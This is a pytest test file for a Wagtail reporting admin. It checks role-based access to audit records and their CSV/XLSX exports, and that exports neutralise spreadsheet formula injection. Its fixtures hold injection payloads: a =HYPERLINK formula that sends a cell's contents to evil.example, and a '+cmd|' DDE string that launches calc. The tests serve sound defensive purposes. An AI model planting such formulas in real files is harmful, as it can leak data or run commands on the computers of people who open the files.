"""The records the ministry audits in the Wagtail admin (reports' history, login counters, failed and
successful logins): listed with filters, exported to CSV and XLSX, refused to a pemda."""

import io
from csv import reader as csv_reader

import pytest
from axes.models import AccessAttempt, AccessFailureLog, AccessLog
from openpyxl import load_workbook

from django.test import Client
from django.urls import reverse
from django.utils import timezone

from reporting.accounts.services.roles import roles_setup
from reporting.models import Role
from reporting.services import reports as report_services
from tests import factories

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
# The list's URL name, a filter it offers, and a text every row of the fixture carries.
RECORDS = {
    "report_history": ("reporting_reportevent_modeladmin_index", "?kind=transition", "Laporan dikirim"),
    "login_counters": ("axes_accessattempt_modeladmin_index", "?path_info=/login/", "203.0.113.10"),
    "login_failures": ("axes_accessfailurelog_modeladmin_index", "?locked_out__exact=0", "203.0.113.10"),
    "login_successes": ("axes_accesslog_modeladmin_index", "?path_info=/login/", "203.0.113.10"),
}


@pytest.fixture
def records(kabkota, pemda_user):
    urusan = factories.UrusanFactory(code="1.03", name="Pekerjaan Umum", short_name="PEKERJAAN UMUM")
    factories.ServiceTypeFactory(urusan=urusan, year=2026)
    period = factories.PeriodFactory(year=2026, quarter=1)
    report = report_services.report_get_or_create(region=kabkota, urusan=urusan, period=period)
    report_services.report_submit(report=report, user=pemda_user)
    now = timezone.now()
    seen = {"ip_address": "203.0.113.10", "user_agent": HOSTILE, "path_info": "/login/", "attempt_time": now}
    AccessAttempt.objects.create(username=HOSTILE, failures_since_start=2, get_data="", post_data="", **seen)
    AccessFailureLog.objects.create(username=HOSTILE, locked_out=False, **seen)
    AccessLog.objects.create(username=pemda_user.username, **seen)


def _ministry_admin():
    return factories.UserFactory(role=Role.MINISTRY_ADMIN)


def _superuser():
    return factories.UserFactory(role="", is_superuser=True)


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("record", RECORDS)
@pytest.mark.parametrize("make_user", [_ministry_admin, _superuser], ids=["ministry_admin", "superuser"])
def test_the_ministry_lists_filters_and_exports_the_records(records, record, make_user):
    roles_setup()
    client = Client()
    client.force_login(make_user())
    name, query, expected = RECORDS[record]
    url = reverse(name) + query
    listing = client.get(url)
    assert listing.status_code == 200 and expected in listing.content.decode()
    csv = client.get(url + "&export=csv")
    assert csv.status_code == 200 and expected in _body(csv).decode()
    xlsx = client.get(url + "&export=xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(_body(xlsx))).active
    assert any(expected in str(cell.value) for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("record", RECORDS)
def test_a_pemda_gets_neither_the_list_nor_the_export(client, records, pemda_user, record):
    client.force_login(pemda_user)
    name, query, expected = RECORDS[record]
    for suffix in ("", "&export=csv", "&export=xlsx"):
        response = client.get(reverse(name) + query + suffix)
        assert response.status_code in (302, 403)
        assert expected not in _body(response).decode()


def test_a_reviewer_reads_the_history_but_not_the_login_records(client, records):
    roles_setup()
    client.force_login(factories.UserFactory(role=Role.REVIEWER))
    assert client.get(reverse("reporting_reportevent_modeladmin_index") + "?export=csv").status_code == 200
    assert client.get(reverse("axes_accessfailurelog_modeladmin_index") + "?export=csv").status_code in (302, 403)


def test_a_username_typed_at_the_login_page_stays_text_in_the_exports(client, records):
    roles_setup()
    client.force_login(_ministry_admin())
    url = reverse("axes_accessfailurelog_modeladmin_index")
    csv = _body(client.get(url + "?export=csv")).decode()
    assert "'=HYPERLINK" in csv and '\n"=HYPERLINK' not in csv and "\n=HYPERLINK" not in csv
    sheet = load_workbook(io.BytesIO(_body(client.get(url + "?export=xlsx")))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == HOSTILE]
    assert cells and all(cell.data_type == "s" for cell in cells)


@pytest.mark.parametrize("title", [HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"])
def test_wagtails_own_site_history_export_keeps_a_document_title_as_text(client, db, title):
    """Issue 24.9: Wagtail's Site history (and every export built on its SpreadsheetExportMixin) neutralises
    formulas in the CSV and stores them as text in the XLSX."""
    from wagtail.log_actions import log

    roles_setup()
    superuser = factories.UserFactory(role=Role.MINISTRY_ADMIN, is_superuser=True)
    document = factories._pdf_document(title)
    log(instance=document, action="wagtail.create", user=superuser)
    client.force_login(superuser)
    url = reverse("wagtailadmin_reports:site_history")
    rows = list(csv_reader(io.StringIO(_body(client.get(url + "?export=csv")).decode())))
    fields = [field for row in rows[1:] for field in row]
    assert f"'{title}" in fields
    assert not any(field.startswith(("=", "+", "-", "@")) for field in fields)
    sheet = load_workbook(io.BytesIO(_body(client.get(url + "?export=xlsx")))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == title]
    assert cells and all(cell.data_type == "s" for cell in cells)
